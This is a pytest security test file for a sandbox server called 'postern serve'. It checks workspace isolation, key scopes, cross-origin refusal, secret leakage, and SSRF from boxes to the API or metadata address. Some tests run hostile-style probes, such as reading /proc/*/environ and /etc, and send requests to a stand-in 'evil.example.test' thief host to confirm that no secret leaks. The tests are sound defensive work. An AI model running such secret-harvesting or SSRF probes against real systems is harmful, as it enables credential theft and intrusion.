"""Attacks on a real `postern serve`: by callers of its API, by web pages, and from within its boxes."""

import json
import os
import pathlib
import subprocess
import threading
import time

import pytest

import kit
from attacks_support import Canary, Origin, eventually
from clients_support import WAIT, become
from serve_support import Server, server  # noqa: F401 (a fixture)

API = "api.example.test"


def key(server, *words, workspace="default"):
    """A further key, as its operator makes one while the server runs."""
    return postern_key(server, "create", "--workspace", workspace, *words).stdout.strip()


def postern_key(server, *words):
    prefix = become(server.entry) if server.entry else []
    environment = {"PATH": os.environ["PATH"], "HOME": str(server.directory)}
    return subprocess.run([*prefix, kit.POSTERN, "key", *words, "--data", str(server.data)], env=environment, cwd=server.directory, capture_output=True, text=True,
                          timeout=WAIT, check=True)


def octets(body):
    return {"Content-Type": "application/octet-stream"} if isinstance(body, bytes) else {}


def make(server, name, **more):
    status, box = server.call("POST", "/boxes", {"name": name, **more})
    assert status == 201, (box, server.said())
    return box


def run(server, box, command, timeout=30):
    status, answer = server.call("POST", f"/{box['id']}/execute", {"command": command, "timeout": timeout})
    assert status == 200, answer
    return answer


def rule(header, host=API, **more):
    return {"rules": [{"name": "api", "match_hosts": [host], "headers": [header], **more}]}


def set_secret(server, name, value):
    assert server.call("POST", "//api/v1/workspaces/current/secrets", [{"key": name, "value": value}])[0] == 200


def family(pid):
    """The process and all that descends from it."""
    parents = {}
    for entry in pathlib.Path("/proc").iterdir():
        try:
            parents.setdefault(int((entry / "stat").read_text().rpartition(")")[2].split()[1]), []).append(int(entry.name))
        except (ValueError, OSError):
            continue
    found = [pid]
    for one in found:
        found += parents.get(one, [])
    return found


def test_another_workspace_finds_nothing(server):
    server.start()
    box = make(server, "mine", env_vars={"A": "b"})
    foreign = key(server, workspace="other")
    calls = [("GET", "/boxes/{}", None), ("GET", "/boxes/{}/status", None), ("PATCH", "/boxes/{}", {"idle_ttl_seconds": 60}), ("POST", "/boxes/{}/start", {}),
             ("POST", "/boxes/{}/stop", {}), ("POST", "/boxes/{}/explain", {"url": "https://a.example/"}), ("GET", "/boxes/{}/capabilities", None),
             ("POST", "/{}/execute", {"command": "id"}), ("POST", "/{}/execute/stream/start", {"command": "id"}), ("GET", "/{}/download?path=/etc/hostname", None),
             ("POST", "/{}/upload?path=/tmp/a", b"x"), ("POST", "/{}/glob", {"pattern": "*"}), ("POST", "/{}/grep", {"pattern": "a"}), ("DELETE", "/boxes/{}", None)]
    for name in (box["id"], "mine"):
        for method, path, body in calls:
            status, answer = server.call(method, path.format(name), body, key=foreign, headers=octets(body), raw=True)
            assert status == 404, (method, path, status, answer)
    assert server.call("GET", "/boxes", key=foreign)[1]["sandboxes"] == []
    assert server.call("POST", "/boxes/batch-delete", {"names": [box["id"], "mine"]}, key=foreign)[1]["deleted"] == []
    assert server.call("GET", "/boxes", key=foreign, headers={"X-Tenant-Id": "00000000-0000-4000-8000-000000000000"})[0] == 403
    assert server.call("GET", f"/boxes/{box['id']}")[1]["status"] == "ready"
    assert server.call("POST", "/boxes", {"name": "mine"}, key=foreign)[0] == 201  # A name says nothing about other workspaces.


def test_keys_do_what_their_scope_says_until_they_are_revoked(server):
    server.start()
    box = make(server, "one")
    reader = key(server, "--scope", "read-only", "--label", "dashboard")
    for method, path, body in [("POST", "/boxes", {}), ("PATCH", "/boxes/one", {}), ("DELETE", "/boxes/one", None), ("POST", "/boxes/one/start", {}),
                               ("POST", "/boxes/one/stop", {}), ("POST", "/boxes/batch-delete", {"names": ["one"]}), ("POST", f"/{box['id']}/execute", {"command": "id"}),
                               ("POST", f"/{box['id']}/upload?path=/tmp/a", b"x"), ("POST", f"/{box['id']}/execute/stream/start", {"command": "id"}),
                               ("POST", "//api/v1/workspaces/current/secrets", [{"key": "A", "value": "b"}])]:
        status, answer = server.call(method, path, body, key=reader, headers=octets(body), raw=True)
        assert status == 403, (method, path, status, answer)
    assert server.call("GET", "/boxes/one", key=reader)[1]["status"] == "ready"
    public = reader.split("_")[1]
    listed = postern_key(server, "list").stdout
    assert public in listed and "dashboard" in listed and "read-only" in listed and reader not in listed
    postern_key(server, "revoke", public)
    assert server.call("GET", "/boxes/one", key=reader)[0] == 401
    assert server.call("GET", "/boxes/one")[0] == 200


def test_no_box_is_made_of_a_directory_of_the_host(server):
    server.start()
    for field in ("snapshot", "snapshot_id", "snapshot_name"):
        for place in (str(server.data), "/", ".."):
            assert server.call("POST", "/boxes", {field: place})[0] == 400
    assert server.call("GET", "/boxes")[1]["sandboxes"] == []


def test_web_pages_get_nowhere(server):
    server.start()
    for path in ("/boxes", "//health", "//.well-known/jwks.json"):
        assert server.call("GET", path, headers={"Host": "rebound.example"})[0] == 421
        assert server.call("GET", path, headers={"Origin": "https://evil.example"})[0] == 403
        assert server.call("GET", path, headers={"Origin": "null"})[0] == 403
        assert server.call("GET", path, headers={"Sec-Fetch-Site": "cross-site"})[0] == 403
    assert server.call("GET", "//health", key=False)[0] == 200


def test_a_data_directory_has_one_server(server):
    server.start()
    make(server, "one")
    second = Server(server.directory, account="user" if server.entry else "root")
    with pytest.raises(AssertionError, match="another `postern serve` uses"):
        second.start()
    assert server.call("GET", "/boxes/one")[1]["status"] == "ready"


def test_secrets_are_nowhere_but_in_what_the_origin_gets(server, authority):
    shared, own, master = Canary(), Canary(), "8oINXVIUfgOwvVjy2+lS3UzgymFoJ1nPAa2F4IJLMts="
    origin = Origin(authority=authority, names=[API])
    try:
        server.at(API, origin.port).start("--access-log", server.directory / "access.jsonl", env={"POSTERN_MASTER_KEY": master})
        set_secret(server, "TOKEN", str(shared))
        rules = rule({"name": "X-Shared", "type": "workspace_secret", "value": "{TOKEN}"})
        rules["rules"][0]["headers"].append({"name": "X-Own", "type": "opaque", "value": str(own)})
        box = make(server, "one", proxy_config=rules)
        assert run(server, box, f"curl -sS https://{API}/")["stdout"] == "ok", server.said()
        assert origin.values("x-shared") == [str(shared)] and origin.values("x-own") == [str(own)]
        seen = json.dumps(server.call("GET", "/boxes/one")[1]) + json.dumps(server.call("GET", "//api/v1/workspaces/current/secrets")[1])
        # What is refused does not say what was sent.
        bad = rule({"name": "X-Own", "type": "opaque", "value": str(own), "more": 1})
        seen += json.dumps(server.call("PATCH", "/boxes/one", {"proxy_config": bad})[1])
        seen += json.dumps(server.call("POST", "//api/v1/workspaces/current/secrets", [{"key": "no good", "value": str(shared)}])[1])
        seen += json.dumps(run(server, box, "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ls -laR /etc /run"))
        processes = family(server.process.pid)
        assert len(processes) > 3
        for pid in processes:
            for file in ("environ", "cmdline"):
                try:
                    seen += pathlib.Path(f"/proc/{pid}/{file}").read_text(errors="surrogateescape")
                except OSError:
                    continue  # Not ours to read, or gone.
        limits = pathlib.Path(f"/proc/{server.process.pid}/limits").read_text()
        assert [line.split()[4] for line in limits.splitlines() if line.startswith("Max core")] == ["0"]
        assert server.stop() == 0
        seen += server.said()
        seen = seen.encode("utf-8", "surrogateescape") + b"".join(file.read_bytes() for file in server.directory.rglob("*") if file.is_file() and not file.is_symlink())
        for canary in (shared, own):
            assert not canary.found_in(seen)
        assert master.encode() not in seen and server.key.encode() not in seen
    finally:
        origin.stop()


def test_a_box_sees_nothing_of_the_server_and_of_other_boxes(server):
    server.start()
    one, two = make(server, "one"), make(server, "two")
    run(server, two, "echo secret > /home/user/two; exec -a canary-process sleep 60 > /dev/null 2>&1 &")
    run(server, two, "mkdir -p /run/x; nohup sh -c 'exec -a canary-process sleep 60' >/dev/null 2>&1 &")
    places = f"{server.data} {server.data}/boxes {server.directory} /home/user/two"
    found = run(server, one, f"ls -d {places} 2>/dev/null; grep -l canary-process /proc/*/cmdline 2>/dev/null | grep -v self; cat /proc/net/unix | tail -n +2; ls /proc | grep -c '^[0-9]'")
    lines = found["stdout"].split("\n")
    assert "/two" not in found["stdout"] and str(server.directory) not in found["stdout"], found
    assert int([line for line in lines if line.isdigit()][-1]) < 12, found
    mounts = run(server, one, "cat /proc/self/mountinfo")["stdout"]
    assert two["id"] not in mounts


def test_a_box_does_not_reach_the_api(server):
    server.start(listen="0.0.0.0:0")
    port = server.url.rpartition(":")[2]
    box = make(server, "one")  # Everything public is open to it.
    own = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()
    for host in ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "100.64.0.1", "169.254.169.254", *own]:
        answer = run(server, box, f"curl -sS -m 5 -o - -w '%{{http_code}}' http://{host}:{port}/health")
        assert '"ok"' not in answer["stdout"], (host, answer)
    names = server.call("GET", "//health")
    assert names == (200, {"status": "ok"})


def ask_twice(host):
    """One connection: a request, then something changes, then another. A program for the box."""
    return f"""python3 - <<'END'
import http.client, pathlib, time
one = http.client.HTTPSConnection("{host}")
one.request("GET", "/"); print(one.getresponse().read().decode(), flush=True)
pathlib.Path("/tmp/asked").touch()
while not pathlib.Path("/tmp/changed").exists(): time.sleep(0.01)
try:
    one.auto_open = 0
    one.request("GET", "/"); answer = one.getresponse(); print(answer.status, flush=True)
except Exception as error: print("closed", error)
END"""


@pytest.mark.parametrize("change", ["secret", "policy", "revoked"])
def test_what_is_changed_holds_for_the_next_request_of_an_open_connection(server, authority, change):  # threats 93, 94
    origin = Origin(authority=authority, names=[API])
    try:
        server.at(API, origin.port).start()
        set_secret(server, "TOKEN", "canary-one")
        box = make(server, "one", proxy_config=rule({"name": "X-Key", "type": "workspace_secret", "value": "{TOKEN}"}))
        answers = []
        thread = threading.Thread(target=lambda: answers.append(run(server, box, ask_twice(API))))
        thread.start()
        assert eventually(lambda: len(origin.requests) == 1)
        if change == "policy":
            new = rule({"name": "X-Key", "type": "plaintext", "value": "plain-two"})
            assert server.call("PATCH", "/boxes/one", {"proxy_config": new})[0] == 200
        else:
            set_secret(server, "TOKEN", None if change == "revoked" else "canary-two")
        assert eventually(lambda: run(server, box, "test -e /tmp/asked && touch /tmp/changed; echo $?")["stdout"] == "0\n")
        thread.join(WAIT)
        said = answers[0]["stdout"].split()
        if change == "revoked":
            assert said[0] == "ok" and said[1] == "403" and origin.values("x-key") == ["canary-one"]
        else:
            assert said == ["ok", "200"]
            assert origin.values("x-key") == ["canary-one", "plain-two" if change == "policy" else "canary-two"]
    finally:
        origin.stop()


def test_an_opaque_value_goes_to_no_other_host(server, authority):  # threat 85
    thief = Origin(authority=authority, names=["evil.example.test"])
    try:
        server.at("evil.example.test", thief.port).start()
        canary = Canary()
        box = make(server, "one", proxy_config=rule({"name": "X-Own", "type": "opaque", "value": str(canary)}))
        for update in (rule({"name": "X-Own", "type": "opaque", "is_set": True}, "evil.example.test"), rule({"name": "X-Own", "type": "opaque"}, "evil.example.test"),
                       rule({"name": "X-Own", "type": "opaque", "is_set": True}, "*.example.test")):
            assert server.call("PATCH", "/boxes/one", {"proxy_config": update})[0] == 422
        run(server, box, "curl -sS https://evil.example.test/")
        assert thief.values("x-own") == []
    finally:
        thief.stop()


HELD = f"""python3 - <<'END'
import pathlib, socket, ssl
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
one = context.wrap_socket(socket.create_connection(("{API}", 443)), server_hostname="{API}")
one.sendall(b"GET / HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n")
print(one.recv(12).decode(), flush=True)
pathlib.Path("/tmp/answered").touch()
try:
    while one.recv(1000): pass
except OSError:
    pass
print("closed")
END"""


def test_a_tunnel_that_is_not_allowed_any_more_is_closed(server, authority):  # threat 94
    origin = Origin(authority=authority, names=[API])
    try:
        server.at(API, origin.port).start()
        box = make(server, "one")  # No rule covers the host: its bytes pass through.
        answers = []
        thread = threading.Thread(target=lambda: answers.append(run(server, box, HELD)))
        thread.start()
        assert eventually(lambda: run(server, box, "test -e /tmp/answered; echo $?")["stdout"] == "0\n")
        denied = {"rules": [{"name": "no", "match_hosts": [API], "action": "deny"}]}
        began = time.monotonic()
        assert server.call("PATCH", "/boxes/one", {"proxy_config": denied})[0] == 200
        thread.join(WAIT)
        assert answers and answers[0]["stdout"].split() == ["HTTP/1.1", "200", "closed"], answers
        assert time.monotonic() - began < 5, "within a second, on a machine that is not busy"
    finally:
        origin.stop()
